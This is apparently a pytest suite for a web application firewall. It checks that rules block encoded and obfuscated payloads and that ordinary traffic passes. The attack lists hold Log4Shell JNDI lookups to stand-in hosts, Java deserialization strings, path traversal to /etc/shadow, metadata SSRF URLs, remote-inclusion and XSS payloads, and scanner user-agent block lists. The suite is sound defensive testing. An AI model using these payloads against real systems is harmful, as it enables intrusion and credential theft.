"""The WAF: every rule blocks its attacks (plain, encoded, double-encoded, obfuscated) with a 403 naming the
rule, and ordinary API traffic, browsers, CLI clients and the docs pages pass."""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import pytest
from fastapi import FastAPI, Request, UploadFile
from fastapi.responses import Response
from fastapi.testclient import TestClient
from fastapi_offline import FastAPIOffline
from starlette.types import ASGIApp, Receive, Scope, Send

from investai.api.middleware import waf_rules
from investai.api.middleware.client_ip import client_ip, parse_ip, parse_networks
from investai.api.middleware.edge import add_edge_protection
from investai.api.middleware.waf_rules import (
    RULE_NAMES,
    RequestHead,
    WafConfig,
    body_texts,
    decode_variants,
    first_body_match,
    first_head_match,
    inet_aton,
    log4j_resolution_steps,
)
from investai.config import Settings

REQUEST_ID = "req-test-00000001"
BASE_URL = "http://127.0.0.1"


class FixedRequestId:
    """Stands in for the request-context middleware: puts a request id into the ASGI state."""

    def __init__(self, app: ASGIApp) -> None:
        self.app = app

    async def __call__(self, scope: Scope, receive: Receive, send: Send) -> None:
        if scope["type"] == "http":
            scope.setdefault("state", {})["request_id"] = REQUEST_ID
        await self.app(scope, receive, send)


def build_app(settings: Settings) -> FastAPI:
    app = FastAPIOffline(title="waf-test")

    @app.get("/api/v1/echo")
    async def echo_query(request: Request) -> dict[str, Any]:
        return {"query": dict(request.query_params)}

    @app.post("/api/v1/echo")
    async def echo_json(request: Request) -> Any:
        return await request.json()

    @app.post("/api/v1/raw")
    async def echo_raw(request: Request) -> Response:
        return Response(await request.body(), media_type="application/octet-stream")

    @app.post("/api/v1/upload")
    async def upload(file: UploadFile) -> dict[str, Any]:
        content = await file.read()
        return {"filename": file.filename, "size": len(content)}

    @app.get("/api/v1/items/{item_id}")
    async def item(item_id: str) -> dict[str, str]:
        return {"id": item_id}

    @app.get("/.well-known/jwks.json")
    async def jwks() -> dict[str, list[Any]]:
        return {"keys": []}

    add_edge_protection(app, settings, now=lambda: 0.0)
    app.add_middleware(FixedRequestId)
    return app


def make_settings(tmp_path: Path, **overrides: Any) -> Settings:
    return Settings(data_dir=tmp_path / "var", _env_file=None, **overrides)


@pytest.fixture
def client(tmp_path: Path) -> Iterator[TestClient]:
    with TestClient(build_app(make_settings(tmp_path)), base_url=BASE_URL) as test_client:
        yield test_client


def assert_blocked(response: Any, rule: str) -> None:
    assert response.status_code == 403, (rule, response.status_code, response.text)
    assert response.json() == {
        "error": {
            "code": "waf_blocked",
            "message": f"blocked by rule {rule}",
            "request_id": REQUEST_ID,
            "rule": rule,
        }
    }


@dataclass(frozen=True)
class Attack:
    rule: str
    url: str
    method: str = "GET"
    headers: dict[str, str] = field(default_factory=dict)
    json: Any = None
    content: bytes | None = None

    def send(self, client: TestClient) -> Any:
        return client.request(self.method, self.url, headers=self.headers, json=self.json, content=self.content)


def _json(rule: str, payload: Any) -> Attack:
    return Attack(rule, "/api/v1/echo", "POST", json=payload)


def _body(rule: str, content: bytes, content_type: str) -> Attack:
    return Attack(rule, "/api/v1/raw", "POST", headers={"content-type": content_type}, content=content)


ATTACKS: list[Attack] = [
    # Known Bad Inputs
    Attack("PROPFIND_METHOD", "/api/v1/echo", "PROPFIND"),
    Attack("Log4JRCE_HEADER", "/api/v1/echo", headers={"user-agent": "${jndi:ldap://evil.example/a}"}),
    Attack("Log4JRCE_HEADER", "/api/v1/echo", headers={"x-api-version": "${${lower:j}ndi:ldap://evil.example/a}"}),
    Attack("Log4JRCE_HEADER", "/api/v1/echo", headers={"referer": "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}"}),
    Attack("Log4JRCE_HEADER", "/api/v1/echo", headers={"x-forwarded-host": "${${upper:j}ndi:ldap://x/a}"}),
    Attack("Log4JRCE_QUERYSTRING", "/api/v1/echo?q=%24%7Bjnd%24%7Bupper%3A%C4%B1%7D%3Aldap%3A%2F%2Fx%7D"),
    Attack("Log4JRCE_URIPATH", "/api/v1/items/%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D"),
    Attack("Log4JRCE_QUERYSTRING", "/api/v1/echo?q=%24%7B%24%7B%3A%3A-j%7Dndi%3Armi%3A%2F%2Fx%2Fa%7D"),
    Attack("Log4JRCE_QUERYSTRING", "/api/v1/echo?q=%2524%257Bjndi%253Adns%253A%252F%252Fx%257D"),
    Attack("Log4JRCE_QUERYSTRING", "/api/v1/echo?q=%24%7Bj%24%7Bk8s%3Ak5%3A-ND%7Di%3Aldap%3A%2F%2Fx%7D"),
    _json("Log4JRCE_BODY", {"note": "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}"}),
    _json("Log4JRCE_BODY", {"note": "${jndi:ldap://x/a:-fallback}"}),
    Attack("JavaDeserRCE_HEADER", "/api/v1/echo", headers={"x-session": "rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA"}),
    Attack("JavaDeserRCE_URIPATH", "/api/v1/items/java.lang.Runtime"),
    Attack("JavaDeserRCE_QUERYSTRING", "/api/v1/echo?cmd=java.lang.Runtime.getRuntime().exec(%22id%22)"),
    _json("JavaDeserRCE_BODY", {"payload": "rO0ABXNyABdqYXZhLnV0aWwuUHJpb3JpdHlRdWV1ZQ"}),
    _json("JavaDeserRCE_BODY", {"class": "org.apache.commons.collections.functors.InvokerTransformer"}),
    _body("JavaDeserRCE_BODY", b"\xac\xed\x00\x05sr\x00\x11java.util.HashMap", "application/octet-stream"),
    Attack("ExploitablePaths_URIPATH", "/WEB-INF/web.xml"),
    Attack("ExploitablePaths_URIPATH", "/.git/HEAD"),
    Attack("ExploitablePaths_URIPATH", "/%2egit/config"),
    Attack("ExploitablePaths_URIPATH", "/actuator/env"),
    Attack("ExploitablePaths_URIPATH", "/cgi-bin/test.cgi"),
    Attack("ExploitablePaths_URIPATH", "/wp-admin/install.php"),
    Attack("ExploitablePaths_URIPATH", "/phpMyAdmin/index.php"),
    # Core Rule Set: sizes and user agents
    Attack("SizeRestrictions_URIPATH", "/api/v1/items/" + "a" * 1100),
    Attack("SizeRestrictions_QUERYSTRING", "/api/v1/echo?q=" + "a" * 3000),
    Attack("SizeRestrictions_Cookie_HEADER", "/api/v1/echo", headers={"cookie": "session=" + "b" * 11000}),
    _json("SizeRestrictions_BODY", {"text": "x" * 70_000}),
    Attack("NoUserAgent_HEADER", "/api/v1/echo", headers={"user-agent": ""}),
    Attack("NoUserAgent_HEADER", "/api/v1/echo", headers={"user-agent": "   "}),
    Attack(
        "UserAgent_BadBots_HEADER", "/api/v1/echo", headers={"user-agent": "sqlmap/1.7.2#stable (https://sqlmap.org)"}
    ),
    Attack("UserAgent_BadBots_HEADER", "/", headers={"user-agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine)"}),
    Attack("UserAgent_BadBots_HEADER", "/", headers={"user-agent": "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)"}),
    Attack("UserAgent_BadBots_HEADER", "/", headers={"user-agent": "Nuclei - Open-source project (github.com/x)"}),
    Attack("UserAgent_BadBots_HEADER", "/", headers={"user-agent": "Mozilla/5.0 zgrab/0.x"}),
    Attack("UserAgent_BadBots_HEADER", "/", headers={"user-agent": "gobuster/3.6"}),
    Attack(
        "UserAgent_BadBots_HEADER",
        "/",
        headers={"user-agent": "WPScan v3.8.22 (https://wpscan.com/wordpress-security-scanner)"},
    ),
    Attack(
        "UserAgent_BadBots_HEADER",
        "/",
        headers={"user-agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"},
    ),
    # Core Rule Set: restricted extensions
    Attack("RestrictedExtensions_URIPATH", "/logs/app.log"),
    Attack("RestrictedExtensions_URIPATH", "/config.ini"),
    Attack("RestrictedExtensions_URIPATH", "/db/backup.BAK"),
    Attack("RestrictedExtensions_URIPATH", "/.env"),
    Attack("RestrictedExtensions_URIPATH", "/dump.sql"),
    Attack("RestrictedExtensions_URIPATH", "/.htaccess"),
    Attack("RestrictedExtensions_URIPATH", "/web.config"),
    Attack("RestrictedExtensions_URIPATH", "/nginx.conf"),
    Attack("RestrictedExtensions_URIPATH", "/repo.git"),
    Attack("RestrictedExtensions_URIPATH", "/app%2eenv"),
    Attack("RestrictedExtensions_URIPATH", "/app.env%00.json"),
    # Core Rule Set: instance-metadata SSRF
    Attack("EC2MetaDataSSRF_URIPATH", "/api/v1/items/169.254.169.254"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?url=http://169.254.169.254/latest/meta-data/"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?url=http%3A%2F%2F2852039166%2Flatest"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?url=http%3A%2F%2F0xa9fea9fe%2F"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?url=http%3A%2F%2F0251.0376.0251.0376%2F"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?url=http%3A%2F%2F%5Bfd00%3Aec2%3A%3A254%5D%2F"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?u=http%253A%252F%252Fmetadata.google.internal%252F"),
    Attack("EC2MetaDataSSRF_QUERYARGUMENTS", "/api/v1/echo?u=%2531%2536%2539.254.169.254"),
    Attack("EC2MetaDataSSRF_COOKIE", "/api/v1/echo", headers={"cookie": "target=http%3A%2F%2F169.254.169.254%2F"}),
    _json("EC2MetaDataSSRF_BODY", {"webhook": "http://[::ffff:a9fe:a9fe]/latest/meta-data/iam/"}),
    _json("EC2MetaDataSSRF_BODY", {"webhook": "http://metadata.google.internal/computeMetadata/v1/"}),
    # Core Rule Set: local and remote file inclusion
    Attack("GenericLFI_URIPATH", "/api/v1/items/%2e%2e%2f%2e%2e%2fetc%2fpasswd"),
    Attack("GenericLFI_URIPATH", "/api/v1/items/%252e%252e%252f%252e%252e%252fetc%252fhosts"),
    Attack("GenericLFI_URIPATH", "/api/v1/items/%c0%ae%c0%ae%c0%af%c0%ae%c0%ae%c0%afetc"),
    Attack("GenericLFI_URIPATH", "/api/v1/items/..%5c..%5cwindows%5csystem32%5cdrivers"),
    Attack("GenericLFI_QUERYARGUMENTS", "/api/v1/echo?file=../../../etc/passwd"),
    Attack("GenericLFI_QUERYARGUMENTS", "/api/v1/echo?file=%252e%252e%252f%252e%252e%252fapp"),
    Attack("GenericLFI_QUERYARGUMENTS", "/api/v1/echo?file=%u002e%u002e%u002fsecret"),
    Attack("GenericLFI_QUERYARGUMENTS", "/api/v1/echo?file=....//....//etc/hosts"),
    Attack("GenericLFI_QUERYARGUMENTS", "/api/v1/echo?file=file:///etc/shadow"),
    _json("GenericLFI_BODY", {"path": "../../../etc/shadow"}),
    _json("GenericLFI_BODY", {"nested": [{"path": "..%2F..%2Fproc%2Fself%2Fenviron"}]}),
    _body("GenericLFI_BODY", b"file=..%5C..%5Cboot.ini&x=1", "application/x-www-form-urlencoded"),
    Attack("GenericRFI_URIPATH", "/api/v1/items/http:%2F%2F198.51.100.7%2Fshell.txt"),
    Attack("GenericRFI_QUERYARGUMENTS", "/api/v1/echo?include=http://203.0.113.7/shell.txt"),
    Attack("GenericRFI_QUERYARGUMENTS", "/api/v1/echo?include=ftp%3A%2F%2Fuser%40198.51.100.1%2Fx"),
    Attack("GenericRFI_QUERYARGUMENTS", "/api/v1/echo?include=http%253A%252F%252F3232235521%252Fx"),
    _json("GenericRFI_BODY", {"callback": "https://198.51.100.23:8443/payload.php"}),
    # Core Rule Set: cross-site scripting
    Attack("CrossSiteScripting_URIPATH", "/api/v1/items/%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?q=%3Cscript%3Ealert(1)%3C/script%3E"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?q=%253Cimg%2520src%253Dx%2520onerror%253Dalert(1)%253E"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?next=javascript:alert(document.domain)"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?next=java%09script:alert(1)"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?q=%26lt%3Bsvg%2Fonload%3Dalert(1)%26gt%3B"),
    Attack("CrossSiteScripting_QUERYARGUMENTS", "/api/v1/echo?name=x%22%20onmouseover%3D%22alert(1)"),
    Attack("CrossSiteScripting_COOKIE", "/api/v1/echo", headers={"cookie": "pref=%3Cscript%3Ealert(1)%3C%2Fscript%3E"}),
    _json("CrossSiteScripting_BODY", {"comment": "<img src=x onerror=alert(1)>"}),
    _json("CrossSiteScripting_BODY", {"comment": "<svg/onload=alert(document.cookie)>"}),
    _body("CrossSiteScripting_BODY", b'{"c": "\\u003ciframe src=x\\u003e"}', "application/json"),
    _body("CrossSiteScripting_BODY", b'{"broken": "<script>alert(1)</script>"', "application/json"),
    _body("CrossSiteScripting_BODY", b"hello <body onload=alert(1)>", "text/plain"),
]

CONFIGURED_ATTACKS: list[tuple[dict[str, Any], Attack]] = [
    ({"waf_ip_blocklist": ["203.0.113.0/24"]}, Attack("IPBlockList", "/api/v1/echo")),
    (
        {"waf_blocked_countries": ["KP", "ir"]},
        Attack("GeoBlock", "/api/v1/echo", headers={"CloudFront-Viewer-Country": "KP"}),
    ),
    (
        {"waf_blocked_countries": ["KP", "ir"]},
        Attack("GeoBlock", "/api/v1/echo", headers={"cloudfront-viewer-country": "IR"}),
    ),
    (
        {"waf_blocked_countries": ["KP"], "waf_country_header": "X-Country"},
        Attack("GeoBlock", "/api/v1/echo", headers={"x-country": "kp"}),
    ),
    (
        {"waf_block_localhost_host": True},
        Attack("Host_localhost_HEADER", "/api/v1/echo", headers={"host": "localhost"}),
    ),
    (
        {"waf_block_localhost_host": True},
        Attack("Host_localhost_HEADER", "/api/v1/echo", headers={"host": "127.0.0.1:8000"}),
    ),
    ({"waf_block_localhost_host": True}, Attack("Host_localhost_HEADER", "/api/v1/echo", headers={"host": "[::1]"})),
    (
        {"profile": "staging", "secret_key": "s" * 40, "master_secret": "m" * 40},
        Attack("Host_localhost_HEADER", "/api/v1/echo", headers={"host": "app.localhost"}),
    ),
    ({"waf_max_query_bytes": 64}, Attack("SizeRestrictions_QUERYSTRING", "/api/v1/echo?q=" + "a" * 70)),
]


def _attack_id(attack: Attack) -> str:
    return attack.rule


@pytest.mark.parametrize("attack", ATTACKS, ids=_attack_id)
def test_each_attack_is_blocked_by_its_rule(client: TestClient, attack: Attack) -> None:
    assert_blocked(attack.send(client), attack.rule)


@pytest.mark.parametrize(("overrides", "attack"), CONFIGURED_ATTACKS, ids=lambda value: getattr(value, "rule", ""))
def test_configured_rules_block(tmp_path: Path, overrides: dict[str, Any], attack: Attack) -> None:
    app = build_app(make_settings(tmp_path, **overrides))
    with TestClient(app, base_url=BASE_URL, client=("203.0.113.9", 50000)) as client:
        assert_blocked(attack.send(client), attack.rule)


def test_every_rule_has_an_attack() -> None:
    covered = {attack.rule for attack in ATTACKS} | {attack.rule for _, attack in CONFIGURED_ATTACKS}
    assert covered == set(RULE_NAMES)


def test_a_missing_user_agent_is_blocked(client: TestClient) -> None:
    del client.headers["user-agent"]
    assert_blocked(client.get("/api/v1/echo"), "NoUserAgent_HEADER")


def test_a_chunked_body_over_the_cap_is_blocked(tmp_path: Path) -> None:
    def chunks() -> Iterator[bytes]:
        for _ in range(40):
            yield b"a" * 2048

    settings = make_settings(tmp_path, waf_max_body_bytes=64 * 1024)
    with TestClient(build_app(settings), base_url=BASE_URL) as client:
        response = client.post("/api/v1/raw", content=chunks(), headers={"content-type": "text/plain"})
        assert_blocked(response, "SizeRestrictions_BODY")


def test_blocks_carry_the_security_headers(client: TestClient) -> None:
    response = client.get("/api/v1/echo", params={"q": "<script>alert(1)</script>"})
    assert response.status_code == 403
    assert response.headers["x-content-type-options"] == "nosniff"
    assert response.headers["content-type"] == "application/json"


def test_localhost_is_allowed_in_dev_by_default(client: TestClient) -> None:
    assert client.get("/api/v1/echo", headers={"host": "localhost:8000"}).status_code == 200


def test_a_disabled_waf_blocks_nothing(tmp_path: Path) -> None:
    settings = make_settings(tmp_path, waf_enabled=False, waf_ip_blocklist=["203.0.113.0/24"])
    with TestClient(build_app(settings), base_url=BASE_URL, client=("203.0.113.9", 50000)) as client:
        response = client.get(
            "/api/v1/echo", params={"q": "<script>alert(1)</script>"}, headers={"user-agent": "sqlmap/1.7"}
        )
        assert response.status_code == 200
        assert client.request("PROPFIND", "/api/v1/echo").status_code == 405


# --- legitimate traffic --------------------------------------------------------------------------------------

LEGITIMATE_USER_AGENTS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5"
    " Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:127.0) Gecko/20100101 Firefox/127.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "curl/8.5.0",
    "python-httpx/0.27.0",
    "python-requests/2.32.3",
    "Go-http-client/2.0",
    "ELB-HealthChecker/2.0",
    "Amazon CloudFront",
    "kube-probe/1.30",
]

LEGITIMATE_QUERIES = [
    {"from": "2024-01-15T00:00:00Z", "to": "2024-03-31", "limit": "50", "min_score": "0.25"},
    {"q": "select the best script for rebalancing", "sort": "-score"},
    {"email": "jane.o'brien@example.com", "name": "O'Brien & Sons"},
    {"tickers": "AAPL,MSFT,BRK.B", "currency": "EUR", "amount": "-1234.5678"},
    {"text": "revenue up 5% y/y; margin < 20% and > 10%", "page": "2"},
    {"cursor": "eyJpZCI6ICIwMUhaWDNLN1E5In0=", "tz": "+02:00"},
    {"url": "https://www.sec.gov/cgi-bin/browse-edgar?action=getcompany&CIK=0000320193"},
    {"path": "reports/2024/q1.pdf", "range": "1.5-2.5"},
    {"note": "learn javascript: it pays", "expr": "${price} per share"},
]

LEGITIMATE_BODIES: list[Any] = [
    {"tickers": ["aapl", "msft"], "risk_tolerance": "aggressive", "investment_horizon": "short", "max_ideas": 5},
    {"notes": "O'Brien's team said we should select a script-based screen; it's \"fine\".", "weight": 0.125},
    {"as_of": "2024-01-02T09:30:00+00:00", "prices": [187.15, 188.0, -0.0034, 1e-6], "volume": 55_000_000},
    {"email": "analyst@example.com", "password": "C0rrect-Horse!battery%2024"},
    {"markdown": "# Thesis\n\n* **Momentum** > median\n* <b>bold</b> claims, A&B <C>\n\n`code`", "lang": "en"},
    {"source": "https://investor.apple.com/sec-filings/default.aspx", "unicode": "Zürich, 東京, São Paulo"},
    {"filters": {"sector": "Information Technology", "exclude": ["tobacco", "weapons"]}, "ok": True},
    [{"id": "01HZX3K7Q9", "score": 0.91}, {"id": "01HZX3K7QA", "score": None}],
    {"memo": "Dividend of $0.24/share; ratio 3:2; see p. 14... and /reports/annual"},
]

LEGITIMATE_PATHS = [
    "/docs",
    "/redoc",
    "/docs/oauth2-redirect",
    "/openapi.json",
    "/static-offline-docs/swagger-ui-bundle.js",
    "/static-offline-docs/swagger-ui.css",
    "/static-offline-docs/redoc.standalone.js",
    "/.well-known/jwks.json",
    "/api/v1/items/01HZX3K7Q9",
    "/api/v1/items/report-2024-q1.pdf",
    "/api/v1/items/AAPL",
    "/api/v1/items/BRK.B",
]


@pytest.mark.parametrize("user_agent", LEGITIMATE_USER_AGENTS)
def test_ordinary_user_agents_pass(client: TestClient, user_agent: str) -> None:
    assert client.get("/api/v1/echo", headers={"user-agent": user_agent}).status_code == 200


@pytest.mark.parametrize("params", LEGITIMATE_QUERIES)
def test_ordinary_queries_pass(client: TestClient, params: dict[str, str]) -> None:
    response = client.get("/api/v1/echo", params=params)
    assert response.status_code == 200, response.text
    assert response.json() == {"query": params}


@pytest.mark.parametrize("payload", LEGITIMATE_BODIES)
def test_ordinary_json_bodies_pass_unchanged(client: TestClient, payload: Any) -> None:
    response = client.post(
        "/api/v1/echo", json=payload, headers={"authorization": "Bearer eyJhbGciOiJSUzI1NiJ9.e30.c2ln"}
    )
    assert response.status_code == 200, response.text
    assert response.json() == payload


@pytest.mark.parametrize("path", LEGITIMATE_PATHS)
def test_ordinary_paths_pass(client: TestClient, path: str) -> None:
    assert client.get(path).status_code == 200


def test_an_inspected_body_is_replayed_byte_for_byte(client: TestClient) -> None:
    body = bytes(range(256)) * 100  # binary, and large enough to arrive in several chunks upstream
    response = client.post("/api/v1/raw", content=body, headers={"content-type": "application/octet-stream"})
    assert response.status_code == 200
    assert response.content == body


def test_a_chunked_body_is_replayed(client: TestClient) -> None:
    def chunks() -> Iterator[bytes]:
        yield b'{"a": '
        yield b'"chunked"}'

    response = client.post("/api/v1/raw", content=chunks(), headers={"content-type": "application/json"})
    assert response.status_code == 200
    assert response.content == b'{"a": "chunked"}'


def test_uploads_are_exempt_from_the_body_rules(client: TestClient) -> None:
    content = b"<script>alert(1)</script> ../../etc/passwd ${jndi:ldap://x/a} " + b"x" * 100_000
    response = client.post("/api/v1/upload", files={"file": ("notes.txt", content, "text/plain")})
    assert response.status_code == 200
    assert response.json() == {"filename": "notes.txt", "size": len(content)}


# --- client address and trusted proxies ----------------------------------------------------------------------


def _blocklist_client(tmp_path: Path, peer: str) -> TestClient:
    settings = make_settings(
        tmp_path,
        waf_ip_blocklist=["198.51.100.0/24", "2001:db8:bad::/48", "192.0.2.77"],
        trusted_proxies=["10.0.0.0/8"],
    )
    return TestClient(build_app(settings), base_url=BASE_URL, client=(peer, 50000))


@pytest.mark.parametrize(
    ("peer", "forwarded_for", "blocked"),
    [
        ("198.51.100.7", None, True),  # blocked CIDR, direct
        ("192.0.2.77", None, True),  # a single blocked address
        ("192.0.2.78", None, False),
        ("::ffff:198.51.100.7", None, True),  # IPv4-mapped form of a blocked address
        ("2001:db8:bad::1", None, True),
        ("2001:db8:600d::1", None, False),
        ("10.0.0.5", "198.51.100.7", True),  # behind our proxy: the forwarded client is blocked
        ("10.0.0.5", "198.51.100.7, 10.1.1.1", True),  # two of our proxies
        ("10.0.0.5", "198.51.100.7, not-an-ip, 10.1.1.1", True),  # malformed entries ignored
        ("10.0.0.5", "198.51.100.7, 203.0.113.1", False),  # the client spoofed the left entry: ignored
        ("203.0.113.50", "198.51.100.7", False),  # untrusted peer: its X-Forwarded-For is ignored
        ("198.51.100.7", "203.0.113.1", True),  # and cannot launder a blocked peer
    ],
)
def test_ip_block_list_uses_the_real_client_address(
    tmp_path: Path, peer: str, forwarded_for: str | None, blocked: bool
) -> None:
    headers = {"x-forwarded-for": forwarded_for} if forwarded_for else {}
    with _blocklist_client(tmp_path, peer) as client:
        response = client.get("/api/v1/echo", headers=headers)
    if blocked:
        assert_blocked(response, "IPBlockList")
    else:
        assert response.status_code == 200


def _scope(peer: str | None, *forwarded: str) -> Scope:
    return {
        "type": "http",
        "client": (peer, 1234) if peer is not None else None,
        "headers": [(b"x-forwarded-for", value.encode()) for value in forwarded],
    }


TRUSTED = parse_networks(["10.0.0.0/8", "fd00::/8"])


@pytest.mark.parametrize(
    ("scope", "expected"),
    [
        (_scope("203.0.113.9"), "203.0.113.9"),
        (_scope("203.0.113.9", "1.2.3.4"), "203.0.113.9"),
        (_scope("10.0.0.1", "1.2.3.4"), "1.2.3.4"),
        (_scope("10.0.0.1", "9.9.9.9, 1.2.3.4"), "1.2.3.4"),
        (_scope("10.0.0.1", "9.9.9.9", "1.2.3.4, 10.2.2.2"), "1.2.3.4"),  # repeated headers, in order
        (_scope("10.0.0.1", "1.2.3.4:5678"), "1.2.3.4"),
        (_scope("10.0.0.1", "[2001:db8::1]:443, fd00::7"), "2001:db8::1"),
        (_scope("10.0.0.1", "10.0.0.2, 10.0.0.3"), "10.0.0.2"),  # all ours: the leftmost
        (_scope("10.0.0.1", "garbage, , ;"), "10.0.0.1"),
        (_scope("10.0.0.1"), "10.0.0.1"),
        (_scope("testclient"), "testclient"),
        (_scope(None), ""),
    ],
)
def test_client_ip(scope: Scope, expected: str) -> None:
    assert client_ip(scope, TRUSTED) == expected


def test_no_trusted_proxies_means_the_peer() -> None:
    assert client_ip(_scope("10.0.0.1", "1.2.3.4"), []) == "10.0.0.1"


def test_parse_networks_rejects_a_malformed_entry() -> None:
    assert [str(network) for network in parse_networks(["10.1.2.3/8", " 192.0.2.1 ", "", "2001:db8::/32"])] == [
        "10.0.0.0/8",
        "192.0.2.1/32",
        "2001:db8::/32",
    ]
    with pytest.raises(ValueError, match="does not appear"):
        parse_networks(["10.0.0.0/33x"])
    assert parse_ip("nonsense") is None


# --- the pure rules ------------------------------------------------------------------------------------------


def _head(path: str = "/", query: str = "", **headers: str) -> RequestHead:
    merged = {"user-agent": "curl/8.5.0", "host": "api.example.com", **headers}
    return RequestHead("GET", path, query, tuple(merged.items()), "203.0.113.9")


def test_literal_dot_segments_are_caught_even_when_no_client_normalises_them() -> None:
    assert first_head_match(_head("/api/v1/items/../../etc/passwd"), WafConfig()) == "GenericLFI_URIPATH"
    assert first_head_match(_head("/static/..;/WEB-INF/web.xml"), WafConfig()) == "ExploitablePaths_URIPATH"


HEAD_CASES = [
    _head("/api/v1/items/../../etc/passwd"),
    _head("/api/v1/ideas", "next=http://169.254.169.254/latest/meta-data/"),
    _head("/api/v1/ideas", "q=%253Cscript%253Ealert(1)%253C/script%253E"),
    _head("/api/v1/ideas", **{"x-api-version": "${jndi:ldap://evil.example/a}"}),
    _head("/api/v1/ideas", cookie="session=<svg onload=alert(1)>"),
    _head("/api/v1/ideas", "sort=-created_at&limit=20"),
    _head("/api/v1/ideas", authorization="Bearer aaa.bbb.ccc"),
    _head("/backup.sql"),
]


@pytest.mark.parametrize("head", HEAD_CASES, ids=lambda head: f"{head.path}?{head.query_string}"[:60])
def test_remembered_verdicts_equal_fresh_ones(head: RequestHead) -> None:
    """The head verdict comes from a cache keyed by what the content rules read; it must equal evaluating
    every rule afresh, on the first request and on a repeat, and for heads too large to be remembered."""
    fresh = next((rule.name for rule in waf_rules.HEAD_RULES if rule.matches(head, WafConfig())), None)
    assert first_head_match(head, WafConfig()) == fresh
    assert first_head_match(head, WafConfig()) == fresh  # served from the cache
    padded = RequestHead(
        head.method, head.path, head.query_string, (*head.headers, ("x-pad", "a" * 5000)), head.client_ip
    )
    assert first_head_match(padded, WafConfig()) == fresh  # too large to remember: evaluated each time


def test_a_remembered_clean_verdict_does_not_hide_the_client_or_configuration_rules() -> None:
    """The cache covers only the content rules; the block list, methods and sizes are checked every time."""
    head = _head("/api/v1/ideas")
    assert first_head_match(head, WafConfig()) is None
    blocked = WafConfig(ip_blocklist=tuple(parse_networks(["203.0.113.0/24"])))
    assert first_head_match(head, blocked) == "IPBlockList"
    propfind = RequestHead("PROPFIND", head.path, head.query_string, head.headers, head.client_ip)
    assert first_head_match(propfind, WafConfig()) == "PROPFIND_METHOD"


def test_a_bearer_token_does_not_split_the_cache_but_other_headers_do() -> None:
    first = _head("/api/v1/ideas", authorization="Bearer aaa.bbb.ccc")
    second = _head("/api/v1/ideas", authorization="Bearer ddd.eee.fff")
    assert waf_rules._content_key(first) == waf_rules._content_key(second)
    assert waf_rules._content_key(_head("/x", accept="a")) != waf_rules._content_key(_head("/x", accept="b"))


def test_decoding_stops_after_three_rounds() -> None:
    assert decode_variants("%25252e") == ("%25252e", "%252e", "%2e", ".")
    assert decode_variants("plain") == ("plain",)
    assert decode_variants("a+b", plus=True) == ("a+b", "a b")


@pytest.mark.parametrize(
    ("notation", "address"),
    [
        ("169.254.169.254", "169.254.169.254"),
        ("2852039166", "169.254.169.254"),
        ("0xa9.0xfe.0xa9.0xfe", "169.254.169.254"),
        ("0251.0376.0251.0376", "169.254.169.254"),
        ("169.254.43518", "169.254.169.254"),
        ("127.1", "127.0.0.1"),
    ],
)
def test_inet_aton_notations(notation: str, address: str) -> None:
    assert str(inet_aton(notation)) == address


@pytest.mark.parametrize("notation", ["256.1.1.1", "1.2.3.4.5", "example", "08.1.1.1", "1..2", "4294967296"])
def test_inet_aton_rejects_non_addresses(notation: str) -> None:
    assert inet_aton(notation) is None


def test_an_unparsable_json_body_is_inspected_as_text() -> None:
    assert body_texts(b'{"a": "x",', "application/json") == ('{"a": "x",',)
    assert "x" in body_texts(b'{"a": ["x"]}', "application/json")
    assert first_body_match(b"[" * 5000 + b"]" * 5000, "application/json") is None  # deep nesting, no crash
    assert first_body_match(b"", "application/json") is None


@pytest.mark.parametrize(
    "payload",
    [
        "${${lower:j}ndi:ldap://x/a}",
        "${${::-j}${::-n}${::-d}${::-i}:rmi://x/a}",
        "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap://x/a}",
        "${j${k8s:k5:-ND}i:ldap://x/a}",
        "${jnd${upper:\u0131}:ldap://x/a}",
        "${jn${date:'d'}i:ldap://x/a}",
        "${${base64:JHtqbmRpOmxkYXA6Ly94L2F9}}",
        "${jndi:ldap://x/a:-default}",
    ],
)
def test_log4j_obfuscations_resolve_to_a_jndi_lookup(payload: str) -> None:
    assert any("${jndi:" in step.lower() for step in log4j_resolution_steps(payload))
